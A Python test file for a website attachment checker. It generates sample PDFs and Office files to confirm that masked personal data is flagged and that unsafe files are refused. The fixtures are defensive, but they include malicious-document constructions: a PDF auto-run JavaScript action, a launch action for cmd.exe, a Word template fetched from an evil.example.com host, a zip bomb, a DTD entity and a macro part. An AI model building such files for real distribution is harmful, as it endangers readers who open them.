"""Attachments: read for personal data like the Markdown, or refused when they cannot be read.

The files are made here, at test time (python-docx, openpyxl, a hand-written PDF and zip files);
no binary is committed.
"""

from __future__ import annotations

import io
import warnings
import zipfile

import docx
import openpyxl
import pytest
from pypdf import PdfWriter

from conftest import VALID_FRONT, messages

F = "schools/caimao/2018-case.md"
A = "schools/caimao/files/"


def body(text: str) -> str:
    return VALID_FRONT.replace("正文内容。", text)


def linked(name: str) -> dict[str, str]:
    """A submission that links the attachment (an unlinked one is an error of its own)."""
    return {F: body(f"附件：[实施方案](files/{name})")}


def pdf(pages: list[str], catalog: str = "", page_extra: str = "") -> bytes:
    """A minimal PDF: one line of Helvetica text per page (no text: a page like a scan)."""
    objects: list[bytes] = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog}>>".encode(),
        f"<< /Type /Pages /Kids [{' '.join(f'{4 + 2 * i} 0 R' for i in range(len(pages)))}] /Count {len(pages)} >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for i, text in enumerate(pages):
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
            f"/Contents {5 + 2 * i} 0 R {page_extra}>>".encode()
        )
        stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1") if text else b""
        objects.append(f"<< /Length {len(stream)} >>\nstream\n".encode() + stream + b"\nendstream")
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, obj in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + obj + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def encrypted_pdf() -> bytes:
    """Only an owner password ("no editing"): opens without asking, but is encrypted."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf(["plan"])))
    writer.encrypt("", "owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def word(paragraphs: list[list[str]], author: str = "") -> bytes:
    """A .docx; each paragraph given as its runs (Word splits text into runs at will)."""
    document = docx.Document()
    for runs in paragraphs:
        paragraph = document.add_paragraph()
        for run in runs:
            paragraph.add_run(run)
    document.core_properties.author = author
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def excel(cells: dict[str, object], title: str = "名单") -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = title
    for reference, value in cells.items():
        sheet[reference] = value
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def package(parts: dict[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An Office Open XML zip with the given parts (and the content-types part)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        )
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def duplicated(data: bytes, name: str, content: str) -> bytes:
    """The zip with a second member of the same name (which one an Office program reads varies)."""
    out = io.BytesIO(data)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name: that is the point
        with zipfile.ZipFile(out, "a") as archive:
            archive.writestr(name, content)
    return out.getvalue()


def slides(texts: list[list[str]]) -> bytes:
    """A .pptx with one slide per entry; each entry the runs of one paragraph."""
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    return package(
        {
            f"ppt/slides/slide{number}.xml": (
                f'<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="{a}">'
                f"<a:p>{''.join(f'<a:r><a:t>{run}</a:t></a:r>' for run in runs)}</a:p></p:sld>"
            )
            for number, runs in enumerate(texts, 1)
        }
    )


W = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:body></w:document>'
PHONE = "这里有一个手机号码（139****5678），公开网站不能刊登个人联系方式；请删除，或遮盖中间四位，写成 139****5678 [错误 personal-phone]"
EMAIL = "这里有一个电子邮箱地址（z***@example.com），公开网站不能刊登个人联系方式；请删除，或遮盖为 z***@example.com [错误 personal-email]"
ID = "这里有一个身份证号码（110105********002X），公开网站不能刊登；请删除；确需保留时写成遮盖形式，如 140102********1234 [错误 personal-id]"
OFFICE_DAMAGED = "请用 Word 或 WPS 打开后另存为 .docx，再替换这个文件 [错误 attachment-unreadable]"
UNSAFE_HINT = "请用 WPS/Word 从原文档重新“导出为 PDF”（普通导出不含脚本），再替换这个文件 [错误 attachment-unsafe]"

CASES = {
    "pdf-clean": ({**linked("a.pdf"), A + "a.pdf": pdf(["Plan 2018", "Contact: the school office"])}, []),
    "pdf-phone": (
        {**linked("a.pdf"), A + "a.pdf": pdf(["Plan 2018", "Tel 139 1234 5678"])},
        [f"{A}a.pdf: 第 2 页: {PHONE}"],
    ),
    "pdf-link": (
        {
            **linked("a.pdf"),
            A + "a.pdf": pdf(
                ["Plan"],
                page_extra="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (mailto:zhang@example.com) >> >>] ",
            ),
        },
        [f"{A}a.pdf: 第 1 页的链接: {EMAIL}"],
    ),
    "pdf-metadata": (
        {
            **linked("a.pdf"),
            A + "a.pdf": pdf(["Plan"]).replace(
                b"/Root 1 0 R >>", b"/Root 1 0 R /Info << /Author (zhang@example.com) >> >>"
            ),
        },
        [f"{A}a.pdf: 文档属性: {EMAIL}"],
    ),
    "pdf-scan": (
        {**linked("a.pdf"), A + "a.pdf": pdf([""])},
        [
            f"{A}a.pdf: 附件: PDF 里没有可以读取的文字（可能是扫描件或图片），网站无法自动检查其中是否有身份证号、手机号等个人信息；请逐页人工核对；有个人信息时，请先遮盖再扫描 [提醒 attachment-unchecked]"
        ],
    ),
    "pdf-encrypted": (
        {**linked("a.pdf"), A + "a.pdf": encrypted_pdf()},
        [
            f"{A}a.pdf: 附件: PDF 文件设置了密码（加密，包括只限制编辑或打印的权限密码），无法检查其中是否有个人信息；请导出不带密码的 PDF（导出时不勾选“加密”或“权限设置”），再替换这个文件 [错误 attachment-unreadable]"
        ],
    ),
    "pdf-javascript": (
        {**linked("a.pdf"), A + "a.pdf": pdf(["Plan"], catalog="/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ")},
        [
            f"{A}a.pdf: 附件: PDF 在打开文件时会执行“JavaScript 脚本”动作，可能危害下载文件的读者，不能发布；{UNSAFE_HINT}"
        ],
    ),
    "pdf-launch-link": (
        {
            **linked("a.pdf"),
            A + "a.pdf": pdf(
                ["Plan"],
                page_extra="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (cmd.exe) >> >>] ",
            ),
        },
        [f"{A}a.pdf: 附件: PDF 在第 1 页会执行“启动程序”动作，可能危害下载文件的读者，不能发布；{UNSAFE_HINT}"],
    ),
    "pdf-damaged": (
        {**linked("a.pdf"), A + "a.pdf": b"%PDF-1.4\n1 0 obj << /Type /Catalog >> garbage"},
        [
            f"{A}a.pdf: 附件: PDF 文件已损坏或格式不标准，无法检查其中是否有个人信息；请用 WPS/Word 重新“导出为 PDF”，再替换这个文件 [错误 attachment-unreadable]"
        ],
    ),
    "pdf-not-pdf": (
        {**linked("a.pdf"), A + "a.pdf": b"<html><script>alert(1)</script></html>"},
        [
            f"{A}a.pdf: 附件: 文件扩展名是 .pdf，但内容不是 PDF；请用 WPS/Word 重新“导出为 PDF”，再替换这个文件 [错误 attachment-format]"
        ],
    ),
    "docx-clean": ({**linked("a.docx"), A + "a.docx": word([["实施方案"], ["联系学校办公室。"]])}, []),
    "docx-personal": (
        {
            **linked("a.docx"),
            A + "a.docx": word([["实施方案"], ["联系人：张老师 ", "139", "1234 5678"]], author="zhang@example.com"),
        },
        [f"{A}a.docx: 文档属性: {EMAIL}", f"{A}a.docx: 第 2 段: {PHONE}"],
    ),
    "xlsx-personal": (
        {**linked("a.xlsx"), A + "a.xlsx": excel({"A1": "姓名", "B3": "11010519491231002X", "C4": 13912345678})},
        [f"{A}a.xlsx: 工作表“名单”的 B3 单元格: {ID}", f"{A}a.xlsx: 工作表“名单”的 C4 单元格: {PHONE}"],
    ),
    "xlsx-clean": (
        {**linked("a.xlsx"), A + "a.xlsx": excel({"A1": "年份", "A2": 2018, "B2": 20190301, "C2": 1234567.5})},
        [],
    ),
    "pptx-personal": (
        {**linked("a.pptx"), A + "a.pptx": slides([["第一页"], ["邮箱 zhang", "@example.com"]])},
        [f"{A}a.pptx: 第 2 张幻灯片: {EMAIL}"],
    ),
    "docx-zip-bomb": (
        {**linked("a.docx"), A + "a.docx": package({"word/document.xml": W.format(" " * (60 * 1024 * 1024))})},
        [
            f"{A}a.docx: 附件: 文件解压后异常巨大（可能是“压缩炸弹”），无法检查；请用 Word 或 WPS 打开后另存为 .docx，或拆分成较小的文件 [错误 attachment-unreadable]"
        ],
    ),
    "docx-dtd": (
        {
            **linked("a.docx"),
            A + "a.docx": package({"word/document.xml": '<!DOCTYPE d [<!ENTITY a "13912345678">]>' + W.format("&a;")}),
        },
        [f"{A}a.docx: 附件: Word 文件内部含有不应出现的 XML 声明（DTD），无法安全检查；{OFFICE_DAMAGED}"],
    ),
    "docx-broken-xml": (
        {**linked("a.docx"), A + "a.docx": package({"word/document.xml": "<w:document><w:body>"})},
        [f"{A}a.docx: 附件: Word 文件已损坏（第 1 行 XML 格式错误），无法检查其中是否有个人信息；{OFFICE_DAMAGED}"],
    ),
    "docx-not-zip": (
        {**linked("a.docx"), A + "a.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100},
        [
            f"{A}a.docx: 附件: 文件扩展名是 .docx，但内容不是 Word 文档；请用 Word 或 WPS 打开后另存为 .docx，再替换这个文件 [错误 attachment-format]"
        ],
    ),
    "docx-external-template": (
        {
            **linked("a.docx"),
            A + "a.docx": package(
                {
                    "word/document.xml": W.format("方案"),
                    "word/_rels/settings.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example.com/t.dotm" TargetMode="External"/></Relationships>',
                }
            ),
        },
        [
            f"{A}a.docx: 附件: 文档打开时会从外部网址加载内容（如模板、图片或对象），可能危害下载文件的读者，不能发布；请把外部内容改为嵌入在文档里的普通图片或文字，另存为 .docx（或导出为 PDF），再替换这个文件 [错误 attachment-unsafe]"
        ],
    ),
    "docx-hyperlink": (
        {
            **linked("a.docx"),
            A + "a.docx": package(
                {
                    "word/document.xml": W.format("写信"),
                    "word/_rels/document.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="mailto:zhang@example.com" TargetMode="External"/></Relationships>',
                }
            ),
        },
        [f"{A}a.docx: 文档里的链接: {EMAIL}"],
    ),
    "docx-macro": (
        {
            **linked("a.docx"),
            A + "a.docx": package({"word/document.xml": W.format("方案"), "word/vbaProject.bin": b"\x00" * 10}),
        },
        [
            f"{A}a.docx: 附件: 文档里含有宏（VBA 代码）或控件，可能危害下载文件的读者，不能发布；请另存为不含宏的 .docx（或导出为 PDF），再替换这个文件 [错误 attachment-unsafe]"
        ],
    ),
    "docx-embedded": (
        {
            **linked("a.docx"),
            A + "a.docx": package(
                {"word/document.xml": W.format("方案"), "word/embeddings/oleObject1.bin": b"\x00" * 10}
            ),
        },
        [
            f"{A}a.docx: 附件: 文档里嵌入了其他文件（如 Excel 表格、Word 文档或其他对象），无法检查其中的内容；请删除嵌入的对象（需要时改成普通表格或文字，或作为单独的附件提交），再替换这个文件 [错误 attachment-unsafe]"
        ],
    ),
    "docx-duplicate-part": (
        {
            **linked("a.docx"),
            A + "a.docx": duplicated(
                package({"word/document.xml": W.format("方案")}), "word/document.xml", W.format("13912345678")
            ),
        },
        [f"{A}a.docx: 附件: Word 文件内部结构异常（有重名的部分），无法检查其中是否有个人信息；{OFFICE_DAMAGED}"],
    ),
    "docx-text-member": (
        {
            **linked("a.docx"),
            A + "a.docx": package({"word/document.xml": W.format("方案"), "notes.txt": "电话 13912345678"}),
        },
        [f"{A}a.docx: 文档内部的 notes.txt: {PHONE}"],
    ),
    "legacy-doc": (
        {**linked("a.doc"), A + "a.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100},
        [
            f"{A}a.doc: 附件格式: 不支持旧版 Office 格式 .doc：网站无法检查其中是否有身份证号、手机号等个人信息；请用 Word/WPS/Excel/PowerPoint 打开，“另存为” .docx 或 PDF，再修改引用它的地方 [错误 attachment-format]"
        ],
    ),
    "legacy-xls": (
        {**linked("a.xls"), A + "a.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100},
        [
            f"{A}a.xls: 附件格式: 不支持旧版 Office 格式 .xls：网站无法检查其中是否有身份证号、手机号等个人信息；请用 Word/WPS/Excel/PowerPoint 打开，“另存为” .xlsx 或 PDF，再修改引用它的地方 [错误 attachment-format]"
        ],
    ),
    "phone-in-attachment-name": (
        {F: body("附件：[名单](files/13912345678.pdf)"), A + "13912345678.pdf": pdf(["Plan"])},
        [
            "schools/caimao/2018-case.md:13:15: 个人信息: " + PHONE,
            f"{A}13912345678.pdf: 文件名: 文件名里有一个手机号码（139****5678），公开网站不能刊登个人联系方式；请删除，或遮盖中间四位，写成 139****5678 [错误 personal-phone]",
        ],
    ),
    "unlinked": (
        {F: body("正文内容。"), A + "plan.pdf": pdf(["Plan"])},
        [
            f"{A}plan.pdf: 附件: 这个附件没有被任何（通过检查的）材料链接：它会发布在网站上，却没有页面指向它，审核时也看不到；请在介绍它的材料里加上链接，如 [附件：实施方案](files/plan.pdf)（路径相对于材料文件）；如果那篇材料还有其他错误，请先改正；不需要的附件请删除 [错误 attachment-unlinked]"
        ],
    ),
    "reference-link": ({F: body("见[实施方案][1]。\n\n[1]: files/plan.pdf"), A + "plan.pdf": pdf(["Plan"])}, []),
    "linked-from-another-school": (
        {
            "schools/weisheng/2018-case.md": body("见[财贸学校的方案](../caimao/files/plan.pdf)。").replace(
                "以诊促改的实践", "另一篇"
            ),
            A + "plan.pdf": pdf(["Plan"]),
        },
        [],
    ),
}


@pytest.mark.parametrize("name", list(CASES))
def test_attachment_rule(tree, name):
    files, expected = CASES[name]
    assert messages(tree(files)) == expected


def test_clean_twins_pass():
    for name in ("pdf-clean", "docx-clean", "xlsx-clean", "reference-link", "linked-from-another-school"):
        assert CASES[name][1] == [], name
